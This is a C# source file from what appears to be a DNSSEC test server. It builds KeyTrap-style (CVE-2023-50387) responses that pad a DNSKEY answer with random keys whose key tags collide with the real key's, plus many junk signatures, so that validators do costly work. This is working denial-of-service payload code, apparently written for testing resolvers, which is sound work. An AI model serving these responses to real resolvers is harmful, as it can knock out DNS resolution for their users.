using System.Buffers.Binary;
using System.Security.Cryptography;
using DnsSecure.Dnssec.Algorithms;

namespace DnsSecure.Testing.Server;

/// <summary>
/// Builds a KeyTrap-like DNSKEY answer (CVE-2023-50387): extra DNSKEYs whose key tag collides with the real key's, and extra
/// RRSIGs naming that tag, all filled with random octets so a validator has to try every key against every signature.
/// </summary>
internal static class OversizedKeySetGenerator
{
    private const int DefaultPublicKeyLength = 64;
    private const int DefaultSignatureLength = 64;

    public static void Inflate(List<ResourceRecord> answers, Fault fault, DomainName zone, TimeProvider time)
    {
        ResourceRecord? key = answers.FirstOrDefault(r => r.Type == RecordType.DNSKEY && r.Name == zone);
        if (key is null)
        {
            return;
        }

        ResourceRecord? sig = answers.FirstOrDefault(r => r.Type == RecordType.RRSIG && RdataFields.RrsigTypeCovered(r.Data) == RecordType.DNSKEY);
        byte[] keyWire = key.Data.ToWire();
        byte algorithm = keyWire.Length > 3 ? keyWire[3] : (byte)13;
        ushort tag = sig is not null ? RdataFields.RrsigKeyTag(sig.Data) : KeyTag.Compute(keyWire);
        int publicKeyLength = Math.Max(keyWire.Length - 4, DefaultPublicKeyLength);
        if (publicKeyLength % 2 != 0)
        {
            publicKeyLength++;
        }

        for (int i = 0; i < fault.KeyCount; i++)
        {
            answers.Add(new ResourceRecord(zone, key.Class, key.Ttl, RdataFields.FromWire(RecordType.DNSKEY, CollidingKey(algorithm, publicKeyLength, tag))));
        }

        if (sig is null)
        {
            return;
        }

        byte[] fixedFields = RdataFields.RrsigFixedFields(sig.Data).ToArray();
        if (fixedFields.Length < 18)
        {
            fixedFields = FreshFixedFields(algorithm, zone, key.Ttl, tag, time);
        }

        for (int i = 0; i < fault.SignatureCount; i++)
        {
            byte[] wire = new byte[fixedFields.Length + zone.WireLength + DefaultSignatureLength];
            fixedFields.CopyTo(wire, 0);
            zone.CopyTo(wire.AsSpan(fixedFields.Length));
            RandomNumberGenerator.Fill(wire.AsSpan(fixedFields.Length + zone.WireLength));
            answers.Add(new ResourceRecord(zone, sig.Class, sig.Ttl, RdataFields.FromWire(RecordType.RRSIG, wire)));
        }
    }

    /// <summary>DNSKEY RDATA (RFC 4034 §2.1: flags, protocol 3, algorithm, key) with random key octets whose key tag is <paramref name="tag"/>.</summary>
    internal static byte[] CollidingKey(byte algorithm, int publicKeyLength, ushort tag)
    {
        byte[] rdata = new byte[4 + publicKeyLength];
        while (true)
        {
            BinaryPrimitives.WriteUInt16BigEndian(rdata, 0x0101); // ZONE and SEP flags
            rdata[2] = 3;
            rdata[3] = algorithm;
            RandomNumberGenerator.Fill(rdata.AsSpan(4));

            // The last two octets sit at an even and an odd offset: together they add one 16-bit value to the sum.
            uint rest = KeyTag.PartialSum(rdata.AsSpan(0, rdata.Length - 2));
            for (uint last = 0; last <= ushort.MaxValue; last++)
            {
                if (KeyTag.Fold(rest + last) == tag)
                {
                    BinaryPrimitives.WriteUInt16BigEndian(rdata.AsSpan(rdata.Length - 2), (ushort)last);
                    return rdata;
                }
            }
        }
    }

    private static byte[] FreshFixedFields(byte algorithm, DomainName zone, uint ttl, ushort tag, TimeProvider time)
    {
        byte[] fields = new byte[18];
        uint now = (uint)time.GetUtcNow().ToUnixTimeSeconds();
        BinaryPrimitives.WriteUInt16BigEndian(fields, (ushort)RecordType.DNSKEY);
        fields[2] = algorithm;
        fields[3] = (byte)zone.LabelCount;
        BinaryPrimitives.WriteUInt32BigEndian(fields.AsSpan(4), ttl);
        BinaryPrimitives.WriteUInt32BigEndian(fields.AsSpan(8), now + 86400);
        BinaryPrimitives.WriteUInt32BigEndian(fields.AsSpan(12), now - 3600);
        BinaryPrimitives.WriteUInt16BigEndian(fields.AsSpan(16), tag);
        return fields;
    }
}
